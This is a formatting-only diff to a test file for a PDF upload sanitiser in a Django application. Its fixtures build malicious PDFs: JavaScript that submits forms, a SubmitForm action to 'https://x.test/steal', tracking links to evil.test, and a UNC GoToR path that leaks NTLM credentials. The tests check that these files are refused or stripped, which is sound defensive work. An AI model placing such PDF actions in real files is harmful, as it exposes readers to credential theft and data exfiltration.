@@ -5,6 +5,7 @@ chains, XFA) is refused; links and annotations are dropped from the stored file;
 a decompression bomb and a limit-breaking file cost the child, not the worker;
 reading stops past UPLOAD_MAX_BYTES; uploads per user and hour are bounded.
 """
+
 from __future__ import annotations
 
 import hashlib
@@ -57,8 +58,9 @@ def _goto_open_action_with_next_javascript() -> bytes:
     pdf = _text_pdf()
     script = Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://x.test')"))
     hop = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script)
-    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]),
-                                                       Next=Array([hop])))
+    pdf.Root.OpenAction = pdf.make_indirect(
+        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([hop]))
+    )
     return _bytes(pdf, object_streams=True)
 
 
@@ -72,8 +74,7 @@ def _acroform_with_xfa() -> bytes:
 def _submit_form_in_annotation_object_stream() -> bytes:
     pdf = _text_pdf()
     submit = Dictionary(S=Name.SubmitForm, F=String("https://x.test/steal"))
-    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]),
-                                         A=submit))
+    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=submit))
     pdf.pages[0].obj.Annots = Array([annot])
     return _bytes(pdf, object_streams=True)
 
@@ -81,10 +82,18 @@ def _submit_form_in_annotation_object_stream() -> bytes:
 def _links() -> bytes:
     """Links a reader follows: a web address, a UNC GoToR (leaks NTLM credentials), a Launch-free outline."""
     pdf = _text_pdf()
-    uri = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]),
-                     A=Dictionary(S=Name.URI, URI=String("https://evil.test/track")))
-    gotor = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([50, 0, 100, 50]),
-                       A=Dictionary(S=Name.GoToR, F=String("\\\\evil.test\\share\\x.pdf"), D=Array([0, Name.Fit])))
+    uri = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=Array([0, 0, 50, 50]),
+        A=Dictionary(S=Name.URI, URI=String("https://evil.test/track")),
+    )
+    gotor = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=Array([50, 0, 100, 50]),
+        A=Dictionary(S=Name.GoToR, F=String("\\\\evil.test\\share\\x.pdf"), D=Array([0, Name.Fit])),
+    )
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(uri), pdf.make_indirect(gotor)])
     pdf.pages[0].obj.AA = Dictionary(C=Dictionary(S=Name.URI, URI=String("https://evil.test/close")))
     pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.test/open"))
@@ -95,8 +104,15 @@ def _upload(data: bytes, name: str = "plan.pdf") -> SimpleUploadedFile:
     return SimpleUploadedFile(name, data, "application/pdf")
 
 
-@pytest.mark.parametrize("make", [_page_aa_javascript_in_object_stream, _goto_open_action_with_next_javascript,
-                                  _acroform_with_xfa, _submit_form_in_annotation_object_stream])
+@pytest.mark.parametrize(
+    "make",
+    [
+        _page_aa_javascript_in_object_stream,
+        _goto_open_action_with_next_javascript,
+        _acroform_with_xfa,
+        _submit_form_in_annotation_object_stream,
+    ],
+)
 def test_nested_active_content_is_refused(make):
     with pytest.raises(PdfRefused) as refused:
         clean_pdf(_upload(make()))
@@ -171,8 +187,9 @@ def test_upload_stores_the_rebuilt_file_and_the_upload_hash(client, entrepreneur
     draft = complete_draft(entrepreneur, region, reference_data(region))
     client.force_login(entrepreneur)
     data = _links()
-    response = client.post(reverse("applications:attachment_upload", args=[draft.pk]),
-                           {"kind": "business_plan", "file": _upload(data)})
+    response = client.post(
+        reverse("applications:attachment_upload", args=[draft.pk]), {"kind": "business_plan", "file": _upload(data)}
+    )
     assert response.status_code == 302
     attachment = Attachment.objects.get(application=draft, kind="business_plan")
     assert attachment.original_sha256 == hashlib.sha256(data).hexdigest()
@@ -186,21 +203,26 @@ def test_upload_rate_per_user_and_hour(client, entrepreneur, region, settings, l
     from tests.applications.factories import complete_draft, reference_data
 
     settings.UPLOAD_RATE_PER_HOUR = limit
-    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache",
-                                   "LOCATION": f"rate-{limit}"}}
+    settings.CACHES = {
+        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": f"rate-{limit}"}
+    }
     draft = complete_draft(entrepreneur, region, reference_data(region))
     client.force_login(entrepreneur)
     url = reverse("applications:attachment_upload", args=[draft.pk])
-    codes = [client.post(url, {"kind": "business_plan", "file": _upload(_bytes(_text_pdf(f"v{i}")))}).status_code
-             for i in range(3)]
+    codes = [
+        client.post(url, {"kind": "business_plan", "file": _upload(_bytes(_text_pdf(f"v{i}")))}).status_code
+        for i in range(3)
+    ]
     assert codes[:2] == [302, 302]
     assert codes[2] == (400 if refused else 302)
 
 
 def _multipart_request(size: int):
-    body = (b"--B\r\nContent-Disposition: form-data; name=\"csrfmiddlewaretoken\"\r\n\r\nx\r\n"
-            b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n"
-            b"Content-Type: application/pdf\r\n\r\n" + b"%PDF-1.4\n" + b"0" * size + b"\r\n--B--\r\n")
+    body = (
+        b'--B\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\nx\r\n'
+        b'--B\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n'
+        b"Content-Type: application/pdf\r\n\r\n" + b"%PDF-1.4\n" + b"0" * size + b"\r\n--B--\r\n"
+    )
     request = RequestFactory().generic("POST", "/upload/", body, content_type="multipart/form-data; boundary=B")
     return request, len(body)
 
@@ -231,7 +253,9 @@ def test_oversize_upload_shows_the_size_message(client, entrepreneur, region, se
     settings.UPLOAD_MAX_BYTES = 64 * 1024
     draft = complete_draft(entrepreneur, region, reference_data(region))
     client.force_login(entrepreneur)
-    response = client.post(reverse("applications:attachment_upload", args=[draft.pk]),
-                           {"kind": "business_plan", "file": _upload(b"%PDF-1.4\n" + b"0" * 300_000)})
+    response = client.post(
+        reverse("applications:attachment_upload", args=[draft.pk]),
+        {"kind": "business_plan", "file": _upload(b"%PDF-1.4\n" + b"0" * 300_000)},
+    )
     assert response.status_code == 400
     assert "64,0" in response.content.decode() or "64.0" in response.content.decode()
